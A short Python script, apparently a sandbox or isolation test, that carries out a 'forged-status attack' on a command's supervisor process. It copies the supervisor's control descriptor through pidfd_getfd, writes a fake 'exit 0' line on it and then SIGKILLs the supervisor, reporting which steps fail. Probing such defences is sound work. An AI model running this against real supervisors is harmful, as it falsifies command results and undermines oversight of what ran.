# The forged-status attack on the supervisor of a command (pid in argv[1]):
# copy its fd 0 (the control channel) with pidfd_getfd, write a forged
# "exit 0" status line on it, then SIGKILL it. Prints each step that fails
# and goes on (the kill is tried even when the copy was refused).
import ctypes, os, signal, sys
sup = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
pidfd = os.pidfd_open(sup)
fd = libc.syscall(438, pidfd, 0, 0)
if fd < 0:
    print("pidfd_getfd failed", ctypes.get_errno())
else:
    os.write(fd, b"exit 0\n")
    print("forged")
try:
    os.kill(sup, signal.SIGKILL)
    print("killed")
except OSError as e:
    print("kill failed", e.errno)
